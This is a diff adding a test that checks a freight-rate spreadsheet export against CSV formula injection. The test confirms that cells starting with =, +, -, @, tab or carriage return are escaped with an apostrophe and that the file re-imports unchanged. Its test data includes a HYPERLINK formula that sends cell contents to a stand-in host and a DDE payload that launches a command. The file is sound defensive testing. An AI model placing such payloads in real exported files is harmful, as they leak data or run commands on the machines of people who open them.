@@ -87,3 +87,30 @@ describe("export filters and selections", () => {
     expect(result.status).toBe(404);
   });
 });
+
+describe("formula-looking cells (issue 18, finding 9; OWASP CSV injection)", () => {
+  const HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"报价")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "=1+1"];
+
+  it("are written as text behind an apostrophe; real numbers, negative too, stay numbers; the file re-imports unchanged", async () => {
+    const { prisma } = await import("~/utils/db.server");
+    const rows = await prisma.fclRate.findMany({ orderBy: { id: "asc" }, take: HOSTILE.length, select: { id: true } });
+    for (const [i, row] of rows.entries()) await prisma.fclRate.update({ where: { id: row.id }, data: { remark: HOSTILE[i], carrier: i === 0 ? "-" : undefined } });
+    // A negative number the database may hold from before (the forms no longer take them).
+    await prisma.fclRate.update({ where: { id: rows[1].id }, data: { gp20T0: "-5.5" } });
+    const sheet = readSheet((await download(fclExport.loader, "/fclbyseaData/export", { from: "", to: "" })).bytes);
+    const header = sheet[0] as string[];
+    const byId = new Map(sheet.slice(1).map((r) => [r[0], r]));
+    const remarkAt = header.indexOf("remark");
+    rows.forEach((row, i) => expect(byId.get(row.id)![remarkAt], HOSTILE[i]).toBe(`'${HOSTILE[i]}`));
+    expect(byId.get(rows[0].id)![header.indexOf("carrier")]).toBe("'-");
+    expect(byId.get(rows[1].id)![header.indexOf("20GP_T0")]).toBe(-5.5);
+    for (const cells of sheet.slice(1)) for (const cell of cells) if (typeof cell === "string") expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    await prisma.fclRate.update({ where: { id: rows[1].id }, data: { gp20T0: "5.5" } });
+    const before = await snapshot("fcl_rates");
+    const { bytes } = await download(fclExport.loader, "/fclbyseaData/export", { from: "", to: "" });
+    const reimport = await uploadTo(fcl, "/fclbyseaData", cookie, bytes, "oceanFreight.xls");
+    expect(reimport.status, JSON.stringify(reimport.data)).toBe(302);
+    expect(await snapshot("fcl_rates")).toEqual(before);
+  });
+});
